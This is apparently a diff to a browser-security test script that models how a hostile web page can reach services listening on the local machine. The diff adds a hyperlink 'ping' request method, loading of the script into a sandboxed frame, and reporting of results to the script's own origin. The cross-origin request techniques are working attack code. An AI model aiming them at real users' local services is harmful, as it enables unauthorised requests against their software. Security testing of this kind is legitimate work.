@@ -1,6 +1,8 @@
 // What a hostile page can do to a listener of this machine. It runs in Chromium: in a page, and in a sandboxed frame.
 'use strict';
 const PATIENCE = 20000;
+// A page that was opened from a file has no address of its own to report to.
+const SELF = document.currentScript.src;
 const reads = [];
 const tried = [];
 const bounded = promise => Promise.race([promise, new Promise(done => setTimeout(done, PATIENCE))]);
@@ -76,6 +78,11 @@ const posts = {
   'post-json': url => read(url, {method: 'POST', headers: json, body: '{}'}),
   'delete': url => read(url, {method: 'DELETE'}),
   'beacon': async url => { navigator.sendBeacon(url, '{}'); },
+  'ping': async url => {
+    const link = Object.assign(document.createElement('a'), {href: '#pinged', ping: url});
+    document.body.append(link);
+    link.click();
+  },
   'form': formInFrame('application/x-www-form-urlencoded'),
   'form-text': formInFrame('text/plain'),
   'form-multipart': formInFrame('multipart/form-data'),
@@ -125,10 +132,10 @@ const run = async () => {
   await attack(inFrame ? PLAN.framed : PLAN, inFrame ? 'null-' : '');
   if (inFrame) return parent.postMessage({reads, tried}, '*');
   const framed = new Promise(done => { onmessage = event => done(event.data); });
-  const source = `<body><script src="${location.origin}/attack.js"></script>`;
+  const source = `<body><script src="${SELF}"></script>`;
   document.body.append(Object.assign(document.createElement('iframe'), {sandbox: 'allow-scripts allow-forms', srcdoc: source}));
   const more = await Promise.race([framed, new Promise(done => setTimeout(() => done({reads: [], tried: []}), 3 * PATIENCE))]);
   const report = {reads: [...reads, ...more.reads], tried: [...tried, ...more.tried]};
-  await fetch('/report', {method: 'POST', body: JSON.stringify(report)});
+  await fetch(new URL('/report', SELF), {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
 };
 run();
